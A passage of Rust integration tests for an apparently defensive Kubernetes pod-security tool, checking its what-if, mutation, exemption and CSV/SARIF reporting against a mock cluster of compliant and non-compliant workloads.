}

/// SARIF carries the findings, not the what-if; that a namespace's
/// findings will never be enforced (the webhook's config exempts it) fits
/// as a note of the run.
#[test]
fn sarif_notes_the_namespaces_the_webhook_config_exempts() {
    let server = recorded_server();
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(&dir, "exemptions:\n  namespaces: [default, shop]\n");
    let notes = |o: &Outcome| -> Vec<Value> {
        let v: Value = serde_json::from_str(&o.out).expect("sarif");
        v["runs"][0]["invocations"][0]["toolExecutionNotifications"]
            .as_array()
            .expect("notifications")
            .clone()
    };
    let o = run_with_config(&server, &config, &["--format", "sarif"]);
    assert_eq!(
        notes(&o),
        ["default", "shop"]
            .map(|ns| serde_json::json!({"level": "note", "message": {"text": format!(
                "namespace \"{ns}\" is exempt in the webhook's config (exemptions.namespaces): the webhook evaluates none of its pods"
            )}}))
            .to_vec()
    );
    // Its results are still there: the findings are the pods' own.
    assert!(
        !sarif_results_saying(&o.out, " in default: ").is_empty(),
        "{}",
        o.out
    );
    let o = run(&server, &["--format", "sarif"]);
    assert_eq!(notes(&o), Vec::<Value>::new());
}

/// A webhook config that mutates where no namespace label says otherwise,
/// reading no exemption annotation (the webhook's default).
const MUTATE_ON: &str = "mutate:\n  enabled: true\n";

/// [`MUTATE_ON`], reading exemption annotations.
const MUTATE_ON_READING_EXEMPTIONS: &str = "annotationExemptions: true\nmutate:\n  enabled: true\n";

/// [`run_with_config`] with a config file that says `text`.
fn run_with_config_text(server: &ReplayServer, text: &str, extra: &[&str]) -> Outcome {
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(&dir, text);
    run_with_config(server, &config, extra)
}

/// A cluster for the webhook's mutation: namespace `labelled` has
/// `rootlock.dev/mutate=true`, `opted-out` has `rootlock.dev/mutate=false`,
/// `switched` has no such label (the config's `mutate.enabled` decides).
/// Each runs Deployment `fixed` (one pod through a ReplicaSet), whose only
/// violation of `immutable` is an unset `readOnlyRootFilesystem`;
/// `labelled` also runs `explicit` (it sets the field `false`) and `priv`
/// (privileged), has `idle`, like `fixed` but with no pods, and the mirror
/// of a static pod, like `fixed`'s pod; `switched` also runs `rooted`,
/// whose pods' annotation exempts them from `runAsNonRoot`.
fn mutation_cluster(path: &str) -> Reply {
    let restricted = serde_json::json!({"allowPrivilegeEscalation": false, "runAsNonRoot": true,
        "capabilities": {"drop": ["ALL"]}, "seccompProfile": {"type": "RuntimeDefault"}});
    let with = |extra: &[(&str, Value)]| {
        let mut sc = restricted.clone();
        for (k, v) in extra {
            sc[*k] = v.clone();
        }
        serde_json::json!({"containers": [{"name": "app", "image": "nginx", "securityContext": sc}]})
    };
    let none = serde_json::json!({});
    // Exempt from what the mutation does not set, with the reason the
    // webhook reads only with `annotationExemptions: true`.
    let exempt = serde_json::json!({"exempt.rootlock.dev/app": "runAsNonRoot: upstream image needs root; TICKET-7"});
    let workloads: Vec<(&str, &str, Value, usize, &Value)> = [
        ("labelled", "fixed", with(&[]), 1, &none),
        (
            "labelled",
            "explicit",
            with(&[("readOnlyRootFilesystem", false.into())]),
            1,
            &none,
        ),
        (
            "labelled",
            "priv",
            with(&[("privileged", true.into())]),
            1,
            &none,
        ),
        ("labelled", "idle", with(&[]), 0, &none),
        ("switched", "fixed", with(&[]), 1, &none),
        (
            "switched",
            "rooted",
            with(&[("runAsNonRoot", Value::Null)]),
            1,
            &exempt,
        ),
        ("opted-out", "fixed", with(&[]), 1, &none),
    ]
    .into();
    let owner = |kind: &str, api: &str, name: &str, uid: &str| {
        serde_json::json!([{"apiVersion": api, "kind": kind, "name": name, "uid": uid,
            "controller": true}])
    };
    let p = path.split('?').next().unwrap_or(path);
    match p {
        "/api/v1/namespaces" => {
            let recorded = items("namespaces.json").remove(0);
            let namespaces = [
                ("labelled", Some("true")),
                ("switched", None),
                ("opted-out", Some("false")),
            ]
            .into_iter()
            .map(|(name, mutate)| {
                let mut ns = recorded.clone();
                ns["metadata"]["name"] = name.into();
                ns["metadata"]["uid"] = format!("ns-{name}").into();
                ns["metadata"]["labels"] = serde_json::json!({"kubernetes.io/metadata.name": name});
                if let Some(v) = mutate {
                    ns["metadata"]["labels"]["rootlock.dev/mutate"] = v.into();
                }
                ns
            })
            .collect();
            Reply::ok(list("Namespace", "v1", namespaces))
        }
        "/apis/apps/v1/deployments" => Reply::ok(list(
            "Deployment",
            "apps/v1",
            workloads
                .iter()
                .map(|(ns, name, spec, _, annotations)| {
                    serde_json::json!({"metadata": {"name": name, "namespace": ns,
                        "uid": format!("dep-{ns}-{name}")},
                        "spec": {"template": {"metadata": {"annotations": annotations}, "spec": spec}}})
                })
                .collect(),
        )),
        "/apis/apps/v1/replicasets" => Reply::ok(list(
            "ReplicaSet",
            "apps/v1",
            workloads
                .iter()
                .map(|(ns, name, spec, _, annotations)| {
                    serde_json::json!({"metadata": {"name": format!("{name}-5d8f"), "namespace": ns,
                        "uid": format!("rs-{ns}-{name}"),
                        "ownerReferences": owner("Deployment", "apps/v1", name, &format!("dep-{ns}-{name}"))},
                        "spec": {"template": {"metadata": {"annotations": annotations}, "spec": spec}}})
                })
                .collect(),
        )),
        "/api/v1/pods" => {
            let mut pods: Vec<Value> = workloads
                .iter()
                .filter(|(_, _, _, pods, _)| *pods > 0)
                .map(|(ns, name, spec, _, annotations)| {
                    serde_json::json!({"metadata": {"name": format!("{name}-5d8f-x"), "namespace": ns,
                        "uid": format!("pod-{ns}-{name}"), "annotations": annotations,
                        "ownerReferences": owner("ReplicaSet", "apps/v1", &format!("{name}-5d8f"), &format!("rs-{ns}-{name}"))},
                        "spec": spec})
                })
                .collect();
            // A static pod's mirror, which the webhook never mutates.
            pods.push(serde_json::json!({"metadata": {"name": "etcd-node-1", "namespace": "labelled",
                "uid": "pod-etcd", "annotations": {"kubernetes.io/config.mirror": "3f1c"},
                "ownerReferences": owner("Node", "v1", "node-1", "node-1-uid")},
                "spec": with(&[])}));
            Reply::ok(list("Pod", "v1", pods))
        }
        _ => empty_controllers_or_404(path),
    }
}

/// The webhook's mutation (`rootlock.dev/mutate`, or the config's
/// `mutate.enabled` where no label says otherwise) sets an unset
/// `readOnlyRootFilesystem`: the what-if reports the workloads it would
/// make pass as admitted after mutation, while PSA's lines about the
/// running pods stay; an explicit `false` (which the mutation keeps, with
/// its warning) and a privileged container stay rejected.
#[test]
fn the_what_if_models_the_webhooks_mutation() {
    let server = ReplayServer::start(Arc::new(mutation_cluster));
    let o = run(&server, &["--what-if", "immutable"]);
    // The running pods fail the level, mutation or not.
    assert_eq!(o.code, 1, "{}", o.err);
    let psa = "labelled:\n  Warning: existing pods in namespace \"labelled\" violate the new PodSecurity enforce level \"immutable:latest\"\n  Warning: etcd-node-1 (and 2 other pods): readOnlyRootFilesystem != true\n      Deployment/explicit (1 pod), Deployment/fixed (1 pod), Pod/etcd-node-1 (1 pod)\n  Warning: priv-5d8f-x: privileged, readOnlyRootFilesystem != true\n      Deployment/priv (1 pod)\n";
    assert!(o.out.contains(psa), "{}", o.out);
    assert!(
        o.out.contains(
            "  Deployment/fixed (1 pod) admitted after mutation: the webhook's /mutate (rootlock.dev/mutate=true) sets what its new pods lack; running pods change only when recreated\n"
        ),
        "{}",
        o.out
    );
    // No pods: its template, mutated, passes; not said to be rejected.
    assert!(
        o.out
            .contains("  Deployment/idle (0 pods) admitted after mutation: ")
            && !o.out.contains("Deployment/idle has no pods now"),
        "{}",
        o.out
    );
    assert!(
        o.out.contains(
            "  Deployment/explicit (1 pod) still rejected after mutation (rootlock.dev/mutate=true): readOnlyRootFilesystem != true\n      mutation warning: container \"app\" sets securityContext.readOnlyRootFilesystem=false; rootlock did not change it\n"
        ),
        "{}",
        o.out
    );
    assert!(
        o.out.contains(
            "  Deployment/priv (1 pod) still rejected after mutation (rootlock.dev/mutate=true): privileged, readOnlyRootFilesystem bypass\n"
        ),
        "{}",
        o.out
    );
    assert!(
        o.out.contains(
            "  Pod/etcd-node-1 (1 pod) still rejected after mutation (rootlock.dev/mutate=true): readOnlyRootFilesystem != true\n      mutation warning: a mirror pod of a static pod: the kubelet runs the static pod's own manifest, so rootlock did not change this copy of it\n"
        ),
        "{}",
        o.out
    );
    // Where the mutation changes nothing that enforce judges (restricted
    // does not ask for a read-only root), there is nothing to say about it:
    // PSA's lines say it all.
    let restricted = run(&server, &["--what-if", "restricted"]);
    assert!(
        restricted
            .out
            .contains("  Warning: priv-5d8f-x: privileged\n      Deployment/priv (1 pod)\n")
            && !restricted.out.contains("after mutation"),
        "{}",
        restricted.out
    );
    // Without --config only the label turns mutation on.
    assert_eq!(
        o.out.matches("admitted after mutation").count(),
        2,
        "{}",
        o.out
    );
    assert!(!o.out.contains("mutate.enabled"), "{}", o.out);

    // The config's switch mutates where no label says otherwise; a label
    // `false` wins over it.
    let with = run_with_config_text(&server, MUTATE_ON, &["--what-if", "immutable"]);
    assert_eq!(with.code, 1, "{}", with.err);
    assert!(with.out.contains(psa), "{}", with.out);
    let switched = "switched:\n  Warning: existing pods in namespace \"switched\" violate the new PodSecurity enforce level \"immutable:latest\"\n  Warning: fixed-5d8f-x: readOnlyRootFilesystem != true\n      Deployment/fixed (1 pod)\n  Warning: rooted-5d8f-x: runAsNonRoot != true, readOnlyRootFilesystem != true\n      Deployment/rooted (1 pod)\n  Deployment/fixed (1 pod) admitted after mutation: the webhook's /mutate (mutate.enabled: true) sets what its new pods lack; running pods change only when recreated\n";
    // The webhook reads no exemption annotation (its default): what the
    // mutation does not set stays.
    assert!(
        with.out.contains(&format!(
            "{switched}  Deployment/rooted (1 pod) still rejected after mutation (mutate.enabled: true): runAsNonRoot != true\n"
        )),
        "{}",
        with.out
    );
    // With them read, validation exempts what the mutation left.
    let o = run_with_config_text(
        &server,
        MUTATE_ON_READING_EXEMPTIONS,
        &["--what-if", "immutable"],
    );
    assert!(
        o.out.contains(&format!(
            "{switched}  Deployment/rooted (1 pod) admitted after mutation: the webhook's /mutate (mutate.enabled: true) sets what its new pods lack; running pods change only when recreated\n"
        )),
        "{}",
        o.out
    );
    // Not in opted-out: fixed, idle and switched's fixed only.
    assert_eq!(
        with.out.matches("admitted after mutation").count(),
        3,
        "{}",
        with.out
    );

    let json = run_with_config_text(
        &server,
        MUTATE_ON,
        &["--what-if", "immutable", "--format", "json"],
    );
    let labelled = namespace_of(&json.out, "labelled");
    let wi = &labelled["whatIf"];
    assert_eq!(
        wi["warnings"][1],
        "etcd-node-1 (and 2 other pods): readOnlyRootFilesystem != true"
    );
    assert_eq!(
        wi["mutatedWorkloads"],
        serde_json::json!([
            {"workload": "Deployment/fixed", "pods": 1, "mutatedBy": "rootlock.dev/mutate=true", "reasons": "", "warnings": []},
            {"workload": "Deployment/idle", "pods": 0, "mutatedBy": "rootlock.dev/mutate=true", "reasons": "", "warnings": []}
        ])
    );
    assert_eq!(wi["templates"], serde_json::json!([]));
    let rejected = wi["rejectedAfterMutation"].as_array().expect("array");
    assert_eq!(rejected.len(), 3, "{wi}");
    assert_eq!(rejected[0]["workload"], "Deployment/explicit");
    assert_eq!(
        rejected[0]["warnings"],
        serde_json::json!([
            "container \"app\" sets securityContext.readOnlyRootFilesystem=false; rootlock did not change it"
        ])
    );
    assert_eq!(rejected[1]["workload"], "Deployment/priv");
    assert_eq!(
        rejected[1]["reasons"],
        "privileged, readOnlyRootFilesystem bypass"
    );
    assert_eq!(rejected[2]["workload"], "Pod/etcd-node-1");
    let switched = namespace_of(&json.out, "switched");
    assert_eq!(
        switched["whatIf"]["mutatedWorkloads"][0]["mutatedBy"],
        "mutate.enabled: true"
    );
    let opted_out = namespace_of(&json.out, "opted-out");
    assert_eq!(
        opted_out["whatIf"]["mutatedWorkloads"],
        serde_json::json!([])
    );
    assert_eq!(opted_out["whatIf"]["rejected"][0]["pods"], 1);
}

/// The next step counts what the webhook's mutation fixes: a workload
/// that fails only for what it sets needs its pods recreated, not fixed.
#[test]
fn the_next_step_says_which_failing_workloads_the_mutation_fixes() {
    let server = ReplayServer::start(Arc::new(mutation_cluster));
    let o = run(&server, &[]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert!(
        o.out.contains(
            "  next: no warn/audit label yet: label warn+audit first (kubectl label ns labelled rootlock.dev/warn=immutable rootlock.dev/audit=immutable); 5 workloads fail immutable:latest (2 of them only need the pods recreated: the webhook's mutation (rootlock.dev/mutate=true) sets what they lack)\n"
        ),
        "{}",
        o.out
    );
    let o = run_with_config_text(&server, MUTATE_ON, &[]);
    let enforced = "the webhook's default enforce=immutable:latest applies but";
    assert!(
        o.out.contains(&format!(
            "  next: {enforced} 2 workloads fail immutable:latest (created before it applied, or admitted elsewhere): fix them (1 of them only needs the pods recreated: the webhook's mutation (mutate.enabled: true) sets what they lack)\n"
        )),
        "{}",
        o.out
    );
    // The label `false` wins: nothing there is fixed by mutation.
    assert!(
        o.out.contains(&format!(
            "opted-out: 1 workload, 1 pod, 1 failing\n  labels: rootlock.dev/mutate=false\n  webhook: enforce=immutable:latest (default) warn=immutable:latest (default) audit=immutable:latest (default)\n  next: {enforced} 1 workload fails immutable:latest (created before it applied, or admitted elsewhere): fix them\n"
        )),
        "{}",
        o.out
    );
    // With exemptions read, `rooted` lacks only what the mutation sets.
    let o = run_with_config_text(&server, MUTATE_ON_READING_EXEMPTIONS, &[]);
    assert!(
        o.out.contains(&format!(
            "  next: {enforced} 2 workloads fail immutable:latest (created before it applied, or admitted elsewhere): recreate the pods: the webhook's mutation (mutate.enabled: true) sets what they lack\n"
        )),
        "{}",
        o.out
    );
    // A pod of a runtime class the config exempts is never mutated (the
    // webhook admits it untouched): `fixed`'s pod in kata needs a fix.
    let kata = ReplayServer::start(Arc::new(in_kata(
        mutation_cluster,
        "switched",
        "fixed-5d8f-x",
    )));
    let o = run_with_config_text(
        &kata,
        "exemptions:\n  runtimeClasses: [kata]\nmutate:\n  enabled: true\n",
        &[],
    );
    assert!(
        o.out.contains(&format!(
            "  next: {enforced} 2 workloads fail immutable:latest (created before it applied, or admitted elsewhere): fix them\n"
        )),
        "{}",
        o.out
    );
}

/// [`mutation_cluster`] with `rooted`'s exemption annotation moved from its
/// pod template (and pods) to the Deployment's own metadata, where a
/// report reads it but the webhook never sees it.
fn rooted_exempted_by_its_deployment(path: &str) -> Reply {
    let mut reply = mutation_cluster(path);
    let p = path.split('?').next().unwrap_or(path);
    let Ok(mut v) = serde_json::from_slice::<Value>(&reply.body) else {
        return reply;
    };
    let Some(items) = v["items"].as_array_mut() else {
        return reply;
    };
    for item in items {
        let meta = if p == "/api/v1/pods" {
            &mut item["metadata"]
        } else {
            &mut item["spec"]["template"]["metadata"]
        };
        let Some(annotations) = meta.get_mut("annotations").and_then(Value::as_object_mut) else {
            continue;
        };
        let Some(reason) = annotations.remove("exempt.rootlock.dev/app") else {
            continue;
        };
        if p == "/apis/apps/v1/deployments" {
            item["metadata"]["annotations"] =
                serde_json::json!({"exempt.rootlock.dev/app": reason});
        }
    }
    reply.body = v.to_string().into();
    reply
}

/// A Deployment whose own exemption annotation covers what the mutation
/// does not set: the report counts the exemption (as `scan` does for the
/// Deployment), but the webhook judges pods, which never carry their
/// controller's annotations, so recreated pods would still be rejected
/// for what it exempts. The next step does not claim that recreating
/// them is enough (decided: it was a leftover of an earlier note).
#[test]
fn a_controllers_own_exemption_does_not_make_the_mutation_enough() {
    let server = ReplayServer::start(Arc::new(rooted_exempted_by_its_deployment));
    let o = run_with_config_text(&server, MUTATE_ON_READING_EXEMPTIONS, &[]);
    let enforced = "the webhook's default enforce=immutable:latest applies but";
    assert!(
        o.out.contains(&format!(
            "  next: {enforced} 2 workloads fail immutable:latest (created before it applied, or admitted elsewhere): fix them (1 of them only needs the pods recreated: the webhook's mutation (mutate.enabled: true) sets what they lack)\n"
        )),
        "{}",
        o.out
    );
    // The report reads the Deployment's own annotation: `rooted` fails
    // only for what the mutation sets.
    let json = run_with_config_text(&server, MUTATE_ON_READING_EXEMPTIONS, &["--format", "json"]);
    let rooted = entry_of(&json.out, "workloads", "name", "rooted");
    assert!(
        rooted
            .to_string()
            .contains("upstream image needs root; TICKET-7"),
        "{rooted}"
    );
}

/// A `--format csv` report read back as RFC 4180 says: records end with
/// CRLF; a quoted cell may hold commas, line breaks and doubled quotes; a
/// quote anywhere else is malformed.
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let mut record = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => {
                quoted = false;
                assert!(
                    matches!(chars.peek(), None | Some(',' | '\r')),
                    "text after a closing quote in {text:?}"
                );
            }
            (true, c) => cell.push(c),
            (false, '"') => {
                assert!(cell.is_empty(), "a quote inside an unquoted cell: {text:?}");
                quoted = true;
            }
            (false, ',') => record.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                record.push(std::mem::take(&mut cell));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => {
                assert!(c != '\n' && c != '\r', "a bare line break in {text:?}");
                cell.push(c);
            }
        }
    }
    assert!(
        !quoted && cell.is_empty() && record.is_empty(),
        "unterminated record in {text:?}"
    );
    records
}

/// The `column` cells of every row of `workload` in `namespace` of a
/// `--format csv` report (one per container), after checking that every
/// record has the header's cells.
fn csv_column(text: &str, namespace: &str, workload: &str, column: &str) -> Vec<String> {
    let records = csv_records(text);
    let header = &records[0];
    for r in &records {
        assert_eq!(r.len(), header.len(), "{r:?} in\n{text}");
    }
    let at = |name: &str| {
        header
            .iter()
            .position(|h| h == name)
            .unwrap_or_else(|| panic!("no column {name}: {header:?}"))
    };
    let (ns, w, c) = (at("namespace"), at("workload"), at(column));
    let cells: Vec<String> = records[1..]
        .iter()
        .filter(|r| r[ns] == namespace && r[w] == workload)
        .map(|r| r[c].clone())
        .collect();
    assert!(
        !cells.is_empty(),
        "no rows of {namespace} {workload} in\n{text}"
    );
    cells
}

/// `(what_if, what_if_reasons)` of a workload of a `--format csv` report:
/// the same on each of its rows.
fn csv_what_if(text: &str, namespace: &str, workload: &str) -> (String, String) {
    let verdicts = csv_column(text, namespace, workload, "what_if");
    let reasons = csv_column(text, namespace, workload, "what_if_reasons");
    for (v, r) in verdicts.iter().zip(&reasons) {
        assert_eq!(
            (v, r),
            (&verdicts[0], &reasons[0]),
            "{namespace} {workload}"
        );
    }
    (verdicts[0].clone(), reasons[0].clone())
}

fn pair(verdict: &str, reasons: &str) -> (String, String) {
    (verdict.to_string(), reasons.to_string())
}

/// The CSV, exported to plan an enforce rollout in a spreadsheet, says per
/// row what `--what-if` says per workload: rejected with PSA's reasons
/// (each a cell's `;`-separated part, where the table joins them with
/// commas), repeated on each of its containers' rows. Only with
/// `--what-if`: without it the columns stay those of the findings.
#[test]
fn csv_what_if_says_per_row_whether_enforce_would_reject_the_workload() {
    let server = recorded_server();
    let o = run(&server, &["--what-if", "restricted", "--format", "csv"]);
    assert_eq!(o.code, 1, "{}", o.err);
    assert!(
        o.out.starts_with(
            "namespace,workload,container,type,readonly,pods,findings,what_if,what_if_reasons\r\n"
        ),
        "{}",
        o.out
    );
    let all = "allowPrivilegeEscalation != false;unrestricted capabilities;runAsNonRoot != true;seccompProfile";
    assert_eq!(
        csv_what_if(&o.out, "default", "Pod/d1"),
        pair("rejected", all)
    );
    // Its ephemeral container's row too.
    assert_eq!(
        csv_column(&o.out, "shop", "Pod/p1", "what_if"),
        ["rejected", "rejected"]
    );
    assert_eq!(csv_what_if(&o.out, "shop", "Pod/p1"), pair("rejected", all));
    // No pods: its template's verdict, on both containers' rows.
    assert_eq!(
        csv_column(&o.out, "shop", "Deployment/web", "what_if_reasons"),
        [
            "allowPrivilegeEscalation != false;unrestricted capabilities",
            "allowPrivilegeEscalation != false;unrestricted capabilities"
        ]
    );
    assert_eq!(csv_what_if(&o.out, "shop", "Deployment/web").0, "rejected");
    let o = run(&server, &["--what-if", "privileged", "--format", "csv"]);
    assert_eq!(csv_what_if(&o.out, "shop", "Pod/p1"), pair("admitted", ""));

    let o = run(&server, &["--format", "csv"]);
    assert!(
        o.out
            .starts_with("namespace,workload,container,type,readonly,pods,findings\r\n"),
        "{}",
        o.out
    );
    assert!(
        csv_records(&o.out).iter().all(|r| r.len() == 7),
        "{}",
        o.out
    );
}

/// What the webhook of `--config` admits whatever it violates is `exempt`,
/// with why, as the table says it: a namespace it exempts, a runtime class
/// it exempts, pods whose every error their annotations exempt.
#[test]
fn csv_what_if_says_what_the_webhook_exempts_and_why() {
    let server = ReplayServer::start(Arc::new(in_kata(recorded, "shop", "p3")));
    let dir = tempfile::tempdir().expect("tempdir");
    let config = config_file(
        &dir,
        "exemptions:\n  namespaces: [default]\n  runtimeClasses: [kata]\n",
    );
    let o = run_with_config(
        &server,
        &config,
        &["--what-if", "restricted", "--format", "csv"],
    );
    assert_eq!(o.code, 1, "{}", o.err);
    assert_eq!(
        csv_what_if(&o.out, "default", "Pod/d1"),
        pair("exempt", "namespace is exempt (exemptions.namespaces)")
    );
    assert_eq!(
        csv_what_if(&o.out, "shop", "Pod/p3"),
        pair(
            "exempt",
            "runtimeClassName \"kata\" is exempt (exemptions.runtimeClasses)"
        )
    );
    // The quotes doubled in a quoted cell, as RFC 4180 says.
    assert!(
        o.out.contains(
            ",exempt,\"runtimeClassName \"\"kata\"\" is exempt (exemptions.runtimeClasses)\"\r\n"
        ),
        "{}",
        o.out
    );
    assert_eq!(csv_what_if(&o.out, "shop", "Pod/p1").0, "rejected");

    let annotated = ReplayServer::start(Arc::new(annotated_controller(
        "Deployment",
        2,
        "readOnlyRootFilesystem: vendor image rewrites /etc at start; TICKET-1",
        Some("readOnlyRootFilesystem: vendor image rewrites /etc at start; TICKET-1"),
    )));
    let on = config_file(&dir, "annotationExemptions: true\n");
    let o = run_with_config(
        &annotated,
        &on,
        &["--what-if", "immutable", "--format", "csv"],
    );
    assert_eq!(
        csv_what_if(&o.out, "shop", "Deployment/web"),
        pair(
            "exempt",
            "every violation is exempted by exempt.rootlock.dev annotations (annotationExemptions: true)"
        )
    );
}

/// Where the webhook mutates, a workload's verdict is its new pods', as
/// the table says it: admitted after mutation (with why, and that the
/// running pods change only when recreated), or rejected after mutation
/// with what mutates the namespace, what enforce would still reject and
/// the mutation's warnings, which hold quotes and commas.
#[test]
fn csv_what_if_says_what_the_webhooks_mutation_changes() {
    let server = ReplayServer::start(Arc::new(mutation_cluster));
    let o = run(&server, &["--what-if", "immutable", "--format", "csv"]);
    assert_eq!(o.code, 1, "{}", o.err);
    let admitted = pair(
        "admitted after mutation",
        "the webhook's /mutate (rootlock.dev/mutate=true) sets what its new pods lack; running pods change only when recreated",
    );
    assert_eq!(
        csv_what_if(&o.out, "labelled", "Deployment/fixed"),
        admitted
    );
    assert_eq!(csv_what_if(&o.out, "labelled", "Deployment/idle"), admitted);
    let explicit = "rootlock.dev/mutate=true;readOnlyRootFilesystem != true;mutation warning: container \"app\" sets securityContext.readOnlyRootFilesystem=false; rootlock did not change it";
    assert_eq!(
        csv_what_if(&o.out, "labelled", "Deployment/explicit"),
        pair("rejected after mutation", explicit)
    );
    assert_eq!(
        csv_what_if(&o.out, "labelled", "Deployment/priv"),
        pair(
            "rejected after mutation",
            "rootlock.dev/mutate=true;privileged;readOnlyRootFilesystem bypass"
        )
    );
    let mirror = "rootlock.dev/mutate=true;readOnlyRootFilesystem != true;mutation warning: a mirror pod of a static pod: the kubelet runs the static pod's own manifest, so rootlock did not change this copy of it";
    assert_eq!(
        csv_what_if(&o.out, "labelled", "Pod/etcd-node-1"),
        pair("rejected after mutation", mirror)
    );
    // A comma in a reason quotes the cell, so it stays one cell.
    assert!(o.out.contains(&format!(",\"{mirror}\"\r\n")), "{}", o.out);
    // Not mutated there (no config: only the label mutates).
    assert_eq!(
        csv_what_if(&o.out, "switched", "Deployment/fixed"),
        pair("rejected", "readOnlyRootFilesystem != true")
    );

    let o = run_with_config_text(
        &server,
        MUTATE_ON,
        &["--what-if", "immutable", "--format", "csv"],
    );
    assert_eq!(
        csv_what_if(&o.out, "switched", "Deployment/fixed"),
        pair(
            "admitted after mutation",
            "the webhook's /mutate (mutate.enabled: true) sets what its new pods lack; running pods change only when recreated"
        )
    );
    assert_eq!(
        csv_what_if(&o.out, "switched", "Deployment/rooted"),
        pair(
            "rejected after mutation",
            "mutate.enabled: true;runAsNonRoot != true"
        )
    );

    // Where the mutation changes nothing enforce judges, the table says
    // only PSA's reasons: so does the CSV.
    let o = run(&server, &["--what-if", "restricted", "--format", "csv"]);
    assert_eq!(
        csv_what_if(&o.out, "labelled", "Deployment/priv"),
        pair("rejected", "privileged")
    );
    assert_eq!(
        csv_what_if(&o.out, "labelled", "Deployment/fixed"),
        pair("admitted", "")
    );
}
